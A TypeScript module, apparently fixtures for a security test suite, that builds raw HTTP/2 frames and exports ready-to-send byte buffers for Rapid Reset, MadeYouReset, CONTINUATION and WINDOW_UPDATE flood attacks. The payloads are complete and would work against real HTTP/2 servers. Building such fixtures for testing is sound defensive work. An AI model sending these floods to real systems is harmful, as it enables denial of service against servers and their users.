// Frames of HTTP/2 by hand, as attacks send them (H-06, H-08): floods, and requests that no client library would make.
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
/** RFC 9113 §4.1. */
export const frame = (type: number, flags: number, stream: number, payload = Buffer.alloc(0)) => {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head.writeUInt8(type, 3)
  head.writeUInt8(flags, 4)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}
/** The preface and empty SETTINGS (RFC 9113 §3.4). */
export const HTTP2_OPENING = Buffer.concat([PREFACE, frame(4, 0, 0)])
// :method GET, :path /, :scheme http, of the static table (RFC 7541, appendix A).
const REQUEST = Buffer.from([0x82, 0x84, 0x86])
const streams = Array.from({ length: 500 }, (_, index) => index * 2 + 1)

export const HTTP2_FLOODS: Readonly<Record<string, Buffer>> = {
  'rapid reset': Buffer.concat(
    streams.flatMap((stream) => [
      frame(1, 5, stream, REQUEST),
      frame(3, 0, stream, Buffer.from([0, 0, 0, 8])),
    ]),
  ),
  MadeYouReset: Buffer.concat(
    streams.flatMap((stream) => [
      frame(1, 5, stream, REQUEST),
      frame(8, 0, stream, Buffer.alloc(4)),
    ]),
  ),
  CONTINUATION: Buffer.concat([
    frame(1, 0, 1, REQUEST),
    ...streams.map(() => frame(9, 0, 1, REQUEST)),
  ]),
  WINDOW_UPDATE: Buffer.concat(
    streams.map((stream) => frame(8, 0, stream, Buffer.from([0x7f, 0xff, 0xff, 0xff]))),
  ),
}
